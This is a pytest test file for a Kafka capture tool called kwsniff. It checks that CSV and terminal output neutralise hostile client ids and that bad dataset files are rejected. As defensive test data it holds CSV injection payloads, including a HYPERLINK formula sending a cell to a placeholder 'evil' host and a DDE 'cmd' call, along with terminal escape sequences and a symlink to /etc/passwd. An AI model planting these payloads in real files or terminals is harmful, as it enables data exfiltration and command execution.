"""Output that cannot attack its reader, and datasets read as the input they are (issue 35, defects 2,
3, 4 and 8): client ids from the wire that are spreadsheet formulas or terminal escape sequences, a
dataset holding a file that is not its table's, matplotlib's warnings and click's usage errors."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import struct
import subprocess
import sys
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from kafkawire import Flow, i16, i32, response, write_pcap

from kwsniff.cli import main
from kwsniff.sections.output import as_csv

# Client ids (and topics named like them) a hostile client sends: formulas (OWASP's list of first
# characters), the window-title and cursor-position-query sequences, clear-screen, an 8-bit CSI
# (C1) and DEL.
FORMULAS = ['=HYPERLINK("http://evil/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
ESCAPES = ["\x1b]0;owned\x07", "\x1b[6n", "\x1b[2J", "csi\x9b6n", "del\x7f"]
HOSTILE = FORMULAS + ESCAPES
# Any control character a terminal acts on, but the newline that ends lines.
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")


def utf8(s: str) -> bytes:
    """A Kafka STRING: int16 length in bytes, then UTF-8."""
    b = s.encode()
    return i16(len(b)) + b


def metadata_exchanges(client_ids: list[str]) -> list[tuple[int, bytes]]:
    """Per client id a connection with one Metadata v1 exchange for a topic named like it, which the
    broker answers with UNKNOWN_SERVER_ERROR (-1)."""
    packets = []
    for i, cid in enumerate(client_ids):
        flow = Flow(client=(bytes([10, 0, 1, i + 1]), 41000 + i)).handshake()
        flow.send(0, _request(cid))
        flow.send(1, response(7, i32(0) + i32(-1) + i32(1) + i16(-1) + utf8(cid) + b"\x00" + i32(0)))
        flow.close()
        packets += flow.packets
    return sorted(packets, key=lambda p: p[0])


def _request(cid: str) -> bytes:
    """Metadata v1 request for the topic ``cid`` from client id ``cid`` (header v1: any bytes)."""
    body = i32(1) + utf8(cid)
    header = i16(3) + i16(1) + i32(7) + utf8(cid)
    return struct.pack(">i", len(header) + len(body)) + header + body


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """(capture, its dataset) of HOSTILE's clients."""
    folder = tmp_path_factory.mktemp("hostile")
    pcap = write_pcap(folder / "hostile.pcap", metadata_exchanges(HOSTILE))
    run = CliRunner().invoke(main, ["read", str(pcap), "-o", str(folder / "t"), "-q"])
    assert run.exit_code == 0, run.output
    return pcap, folder / "t"


# -- CSV ---------------------------------------------------------------------------------------------
def test_csv_cells_that_would_start_a_formula_get_a_leading_quote(hostile: tuple[Path, Path]) -> None:
    run = CliRunner().invoke(main, ["report", str(hostile[1]), "--section", "latency", "--format", "csv"])
    assert run.exit_code == 0, run.output
    rows = list(csv.DictReader(io.StringIO(run.stdout, newline="")))
    # OWASP: a cell starting with = + - @ tab or CR is prefixed with ', the rest are left as sent.
    expected = sorted("'" + c if c[0] in "=+-@\t\r" else c for c in HOSTILE)
    assert sorted(r["client_id"] for r in rows) == expected
    assert {r["requests"] for r in rows} == {"1"}


def test_csv_numbers_stay_numbers_when_negative() -> None:
    text = as_csv({"s": [{"lag": -3, "skew_ms": -0.25, "topic": "-3", "name": "plain"}]})
    assert text == 'section,lag,skew_ms,topic,name\n"s",-3,-0.25,"\'-3","plain"\n'


# -- terminals ---------------------------------------------------------------------------------------
def test_the_text_report_shows_control_characters_as_escapes(hostile: tuple[Path, Path]) -> None:
    run = CliRunner().invoke(main, ["report", str(hostile[1]), "--section", "latency", "--section", "errors"])
    assert run.exit_code == 0, run.output
    assert CONTROL.findall(run.stdout) == []
    for shown in (
        "\\x1b]0;owned\\x07",
        "\\x1b[6n",
        "\\x1b[2J",
        "csi\\x9b6n",
        "del\\x7f",
        "\\x09TAB",
        "\\x0dCR",
    ):
        # Each in the latency section's client_id column and twice in the errors section's rows.
        assert run.stdout.count(shown) == 3, shown


def test_show_prints_control_characters_from_the_wire_as_escapes(hostile: tuple[Path, Path]) -> None:
    run = subprocess.run(
        [sys.executable, "-m", "kwsniff", "show", str(hostile[0])], capture_output=True, timeout=120
    )
    assert run.returncode == 0, run.stderr
    out = run.stdout.decode()
    assert CONTROL.findall(out) == []
    for shown in ('"\\u001b]0;owned\\u0007"', '"\\u001b[6n"', '"csi\\x9b6n"', '"del\\x7f"'):
        assert out.count(f"client_id {shown}") == 1, shown


def test_show_json_escapes_control_characters_and_keeps_the_values(hostile: tuple[Path, Path]) -> None:
    run = subprocess.run(
        [sys.executable, "-m", "kwsniff", "show", "--json", str(hostile[0])], capture_output=True, timeout=120
    )
    assert run.returncode == 0, run.stderr
    out = run.stdout.decode()
    assert CONTROL.findall(out) == []
    # Escaped, not altered: a JSON reader gets back exactly what the clients sent.
    assert sorted(json.loads(line)["client_id"] for line in out.splitlines()) == sorted(HOSTILE)


# -- a dataset is input too ----------------------------------------------------------------------------
def garbage(path: Path) -> None:
    path.write_bytes(b"PAR1 this is not parquet at all PAR1")


def link_out(path: Path) -> None:
    path.symlink_to("/etc/passwd")


def other_schema(path: Path) -> None:
    pq.write_table(pa.table({"capture": ["x.pcap"], "api_key": ["Produce"]}), path)


def other_table(path: Path) -> None:
    # A file of the same dataset's `connections` table, put under requests/.
    connections = sorted((path.parent.parent / "connections").glob("*.parquet"))[0]
    path.write_bytes(connections.read_bytes())


def no_capture(path: Path) -> None:
    pq.write_table(pa.table({"name": ["alice"], "age": [3]}), path)


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (garbage, "not a Parquet file the report can read ("),
        (link_out, "a link out of the dataset; the report reads only files inside it"),
        (other_schema, "column api_key is BYTE_ARRAY, not SMALLINT as in the requests table: a file of another schema"),
        (no_capture, "no capture column: not a file of the requests table"),
        (other_table, "column bytes_to_broker is not in the requests table: a file of another table"),
    ],
    ids=["garbage", "link_to_etc_passwd", "other_schema", "no_capture", "other_table"],
)  # fmt: skip
def test_a_file_the_report_cannot_read_is_one_line_naming_it(
    hostile: tuple[Path, Path], tmp_path: Path, make: object, reason: str
) -> None:
    import shutil

    tables = tmp_path / "t"
    shutil.copytree(hostile[1], tables)
    bad = tables / "requests" / "x.parquet"
    make(bad)  # type: ignore[operator]
    run = CliRunner().invoke(main, ["report", str(tables)])
    assert run.exit_code == 1
    assert run.stdout == ""
    assert run.stderr.startswith(f"kwsniff: error: {bad}: {reason}")
    assert run.stderr.count("\n") == 1 and run.stderr.endswith("\n")
    assert run.exception is None or isinstance(run.exception, SystemExit)


# -- warnings and usage errors -------------------------------------------------------------------------
def test_html_report_gives_one_warning_for_names_the_font_cannot_draw(tmp_path: Path) -> None:
    # DejaVu Sans, matplotlib's own font, has no CJK ideographs and no Hangul: matplotlib warned once
    # per glyph, with its file paths; now one line names the labels shown with "?".
    pcap = write_pcap(tmp_path / "names.pcap", metadata_exchanges(["日本", "한국", "\x1b]0;t\x07", "$x^2$"]))
    assert CliRunner().invoke(main, ["read", str(pcap), "-o", str(tmp_path / "t"), "-q"]).exit_code == 0
    run = subprocess.run(
        [sys.executable, "-m", "kwsniff", "report", str(tmp_path / "t"), "--html", str(tmp_path / "r.html")],
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "PYTHONWARNINGS": "default"},
    )
    assert run.returncode == 0, run.stderr
    prefix = "kwsniff: warning: plots: 2 names have characters the font cannot draw, shown as ?: "
    line, *rest = run.stderr.splitlines()
    assert rest == [f"html: {tmp_path / 'r.html'}"]  # where the page went, as every --html run says
    assert line.startswith(prefix)
    assert sorted(line.removeprefix(prefix).split(", ")) == ["Metadata v1 日本 (1)", "Metadata v1 한국 (1)"]
    assert (tmp_path / "r.html").stat().st_size > 0


@pytest.mark.parametrize(
    ("args", "line"),
    [
        (["read"], "kwsniff: error: Missing argument 'CAPTURES...' (see 'kwsniff read --help')"),
        (["nosuch"], "kwsniff: error: No such command 'nosuch' (see 'kwsniff --help')"),
        (
            ["report", "--format", "xml", "."],
            "kwsniff: error: Invalid value for '--format': 'xml' is not one of",
        ),
    ],
)
def test_usage_errors_are_one_kwsniff_error_line(args: list[str], line: str) -> None:
    kwsniff = Path(sys.executable).with_name("kwsniff")  # the console script, named as users run it
    run = subprocess.run([kwsniff, *args], capture_output=True, text=True, timeout=60)
    assert run.returncode == 2
    assert run.stdout == ""
    (said,) = run.stderr.splitlines()
    assert said.startswith(line)
    assert said.endswith("--help')")
